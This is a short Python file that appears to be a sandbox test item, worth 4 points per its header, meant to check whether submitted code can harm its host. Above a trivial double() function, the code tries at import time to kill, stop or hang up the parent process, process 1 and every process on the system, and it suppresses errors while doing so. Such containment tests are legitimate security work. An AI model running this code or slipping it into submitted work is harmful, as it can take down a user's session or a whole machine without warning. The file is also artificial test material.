# tries: signals to the parent, to process 1 and to everybody
# points: 4
# stock: harm
import os
import signal

for pid in (os.getppid(), 1, -1):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGHUP):
        try:
            if pid not in (os.getpid(), 0):
                os.kill(pid, number)
        except OSError:
            pass

def double(number):
    return 2 * number
